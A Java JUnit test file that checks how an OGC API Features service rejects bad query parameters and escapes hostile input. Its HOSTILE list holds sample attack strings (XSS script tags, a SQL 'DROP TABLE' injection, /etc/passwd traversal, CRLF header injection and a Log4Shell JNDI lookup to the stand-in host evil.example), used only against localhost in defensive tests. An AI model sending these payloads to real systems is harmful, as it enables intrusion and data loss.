package org.brecha.ogc;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import org.brecha.layer.Layer;
import org.brecha.layer.LayerField;
import org.brecha.layer.MiniAtlas;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Abstract tests query-param-unknown and query-param-invalid, and what attackers would try. */
@OgcWebTest
class BadParametersWebTest {

  private static final String GAP = "/ogc/collections/coverage_gap_adm2/items";
  private static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'; DROP TABLE unit; --",
          "../../../etc/passwd",
          "%00",
          "\u0000",
          "\r\nSet-Cookie: a=b",
          "${jndi:ldap://evil.example/a}",
          "\uD83D\uDE00",
          "9".repeat(5000),
          "NaN",
          "1e999",
          "-",
          ",",
          "/",
          "null");

  @LocalServerPort private int port;

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "limit=0 | limit: must be a whole number of at least 1",
        "limit=-1 | limit: must be a whole number",
        "limit=abc | limit: must be a whole number",
        "limit= | limit: must be a whole number",
        "limit=1.5 | limit: must be a whole number",
        "limit=1&limit=2 | limit: may be given only once",
        "offset=-1 | offset: must be a whole number from 0",
        "offset=x | offset: must be a whole number from 0",
        "bbox=1,2,3 | bbox: must be west,south,east,north",
        "bbox=a,b,c,d | bbox: must be west,south,east,north",
        "bbox=0,91,1,92 | latitudes from -90 to 90",
        "bbox=0,10,1,9 | south must not be greater than north",
        "bbox=9,100,10,110 | longitude comes first",
        "bbox=9,-85,11,-83 | longitude comes first (the layer lies from -84",
        "bbox=-85,9,-83,11&bbox-crs=http://www.opengis.net/def/crs/EPSG/0/4326 | latitude comes first",
        "datetime=yesterday | datetime: must be a year (2018)",
        "datetime=2018/2017 | an interval must not end before it starts",
        "indicator=homicides | indicator: must be one of homicide, robbery",
        "properties=nope | properties: must be names with commas between, of unit_code",
        "properties= | properties: must be names",
        "skipGeometry=yes | skipGeometry: must be one of false, true",
        "f=xml | f: must be one of html, json",
        "lang=fr | lang: must be one of en, es",
        "count=many | count: must be a whole number",
        "count=1.5 | count: must be a whole number",
        "rate_per_100k=high | rate_per_100k: must be a number",
        "reported_crime=2 | reported_crime: must be true or false",
        "unknown=1 | unknown: unknown parameter; known are agreement_status, bbox",
        "BBOX=1,2,3,4 | BBOX: unknown parameter",
        "crs=http://www.opengis.net/def/crs/EPSG/0/25832 | crs: must be one of http://www.opengis",
        "crs= | crs: must be one of http://www.opengis",
        "bbox-crs=3857 | bbox-crs: must be one of http://www.opengis",
        "bbox=1,2,3&bbox-crs=http://www.opengis.net/def/crs/EPSG/0/3857 | bbox: must be the least",
        "bbox=100,9,101,10&bbox-crs=http://www.opengis.net/def/crs/EPSG/0/4326 | look swapped",
        "bbox=8e9,0,9e9,1&bbox-crs=http://www.opengis.net/def/crs/EPSG/0/3857 | -20037508 to 20037508",
        "bbox=5,5,4,6&bbox-crs=http://www.opengis.net/def/crs/EPSG/0/5367 | must be the least",
        "bbox=0,0,nan,1&bbox-crs=http://www.opengis.net/def/crs/EPSG/0/5367 | bbox: must be",
        "sortby=nope | sortby: must be at most 8 different names",
        "sortby= | sortby: must be at most 8 different names",
        "sortby=name,-name | sortby: must be at most 8 different names",
        "sortby=geometry | sortby: must be at most 8 different names",
        "filter=count>%271%27 | filter: at character 7: expected a number, but this is text",
        "filter=nope=1 | filter: at character 1: there is no such property; known are geometry",
        "filter= | filter: at character 1: expected a property",
        "filter=true&filter-lang=cql | filter-lang: must be one of cql2-json, cql2-text",
        "filter=true&filter-crs=EPSG:4326 | filter-crs: must be one of http://www.opengis.net/def",
        "name=%ff | name: must be percent-encoded UTF-8"
      })
  void everyBadParameterIsNamedWithWhatIsLegal(String query, String detail) throws Exception {
    Answer answer = raw(GAP + "?" + query.replace(">", "%3E"));
    assertProblem(answer, query);
    assertThat(answer.json().get("detail").stringValue()).contains(detail);
  }

  @Test
  void documentsKnowNoOtherParameterThanFormatAndLanguage() throws Exception {
    for (String path :
        List.of(
            "/ogc",
            "/ogc/conformance",
            "/ogc/api",
            "/ogc/collections",
            "/ogc/collections/coverage_gap_adm2",
            "/ogc/collections/coverage_gap_adm2/schema",
            "/ogc/collections/coverage_gap_adm2/queryables",
            "/ogc/collections/coverage_gap_adm2/items/XA-101")) {
      Answer answer = raw(path + "?limit=1");
      assertProblem(answer, path);
      assertThat(answer.json().get("detail").stringValue()).startsWith("limit: unknown parameter");
    }
  }

  @Test
  void hostileValuesOfEveryParameterAreRefusedOrMatchNothing() throws Exception {
    Layer layer = MiniAtlas.snapshot().findLayer("coverage_gap_adm2").orElseThrow();
    for (String name : ItemsQuery.parameters(layer)) {
      for (String value : HOSTILE) {
        String query = "?f=html&" + name + "=" + encode(value);
        Answer answer = raw(GAP + query);
        assertThat(answer.status()).as(query).isIn(200, 400);
        if (answer.status() == 400) {
          assertProblem(answer, query);
          assertThat(answer.json().get("detail").stringValue()).startsWith(name + ": ");
        } else {
          assertThat(withoutData(answer)).doesNotContain("<script", "<img", "Set-Cookie: a=b");
        }
        assertThat(answer.header("Set-Cookie")).isEmpty();
      }
    }
  }

  @Test
  void hostileNamesAreRefusedWithoutEcho() throws Exception {
    for (String name : HOSTILE) {
      for (String format : List.of("html", "json")) {
        Answer answer = raw(GAP + "?f=" + format + "&" + encode(name) + "=1");
        assertProblem(answer, name);
        assertThat(answer.body()).doesNotContain("<", "evil.example/a}\"");
        assertThat(answer.body().length()).isLessThan(2000);
      }
    }
  }

  @Test
  void randomQueriesNeverBreakTheServer() throws Exception {
    Layer layer = MiniAtlas.snapshot().findLayer("coverage_gap_adm2").orElseThrow();
    List<String> names = ItemsQuery.parameters(layer);
    String alphabet = "0123456789.,-/:TZe+%&=;abc_~ \u00e9";
    Random random = new Random(20261122);
    for (int i = 0; i < 400; i++) {
      StringBuilder value = new StringBuilder();
      for (int n = random.nextInt(24); n > 0; n--) {
        value.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      String query = names.get(random.nextInt(names.size())) + "=" + encode(value.toString());
      Answer answer = raw(GAP + "?" + query);
      assertThat(answer.status()).as(query).isIn(200, 400);
      if (answer.status() == 400) {
        assertProblem(answer, query);
      }
    }
  }

  @Test
  void textThatLooksLikeMarkupIsShownAsText() {
    assertThat(HtmlPage.escape("<a href=\"x\" onclick='y'>&amp;</a>"))
        .isEqualTo("&lt;a href=&quot;x&quot; onclick=&#39;y&#39;&gt;&amp;amp;&lt;/a&gt;");
  }

  @Test
  void whatReadersTypedIsEscapedInThePage() throws Exception {
    LayerField name =
        MiniAtlas.snapshot().findLayer("coverage_gap_adm2").orElseThrow().fields().stream()
            .filter(f -> f.name().equals("name"))
            .findFirst()
            .orElseThrow();
    Answer answer =
        raw(GAP + "?f=html&" + name.name() + "=%22%3E%3Cscript%3Ealert(1)%3C/script%3E");
    assertThat(answer.status()).isEqualTo(200);
    assertThat(withoutData(answer)).doesNotContain("<script").contains("%22%3E%3Cscript%3E");
    assertThat(answer.header("Content-Security-Policy").orElse("")).contains("default-src 'self'");
  }

  /** The page without its one block of linked data, in which no tag can stand. */
  private static String withoutData(Answer answer) {
    String data = "<script type=\"application/ld\\+json\">[^<>&]*</script>";
    return answer.body().replaceFirst(data, "");
  }

  private static void assertProblem(Answer answer, String query) {
    assertThat(answer.status()).as(query).isEqualTo(400);
    assertThat(answer.type()).isEqualTo("application/problem+json");
    assertThat(answer.header("Cache-Control")).contains("no-store");
    assertThat(answer.header("ETag")).isEmpty();
    assertThat(answer.json().get("type").stringValue()).isEqualTo("/problems/bad-parameter");
    assertThat(answer.json().get("status").intValue()).isEqualTo(400);
  }

  private static String encode(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private Answer raw(String path) throws Exception {
    return Answer.to("http://localhost:" + port + path);
  }
}
